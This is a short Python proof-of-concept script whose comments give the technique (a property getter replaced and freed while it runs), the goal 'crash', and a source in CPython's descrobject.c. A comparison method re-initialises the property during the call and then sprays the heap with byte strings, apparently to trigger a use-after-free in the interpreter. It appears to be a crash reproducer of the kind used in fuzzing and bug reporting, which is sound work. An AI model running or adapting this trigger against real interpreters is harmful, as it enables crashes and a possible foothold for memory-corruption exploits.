# technique: the getter of a property, while it runs, is replaced and freed, with its arguments
# goal: crash
# source: own analysis: property_descr_get() in descrobject.c
import functools
import operator


class Item:
    def __lt__(self, other):
        del self
        p.__init__()
        junk.extend(bytes(b'A' * n) for n in range(15, 100, 16)
                    for i in range(200))
        return NotImplemented


junk = []
for i in range(50):
    p = property(functools.partial(operator.lt, Item()))
    try:
        p.__get__(3)
    except TypeError:
        pass
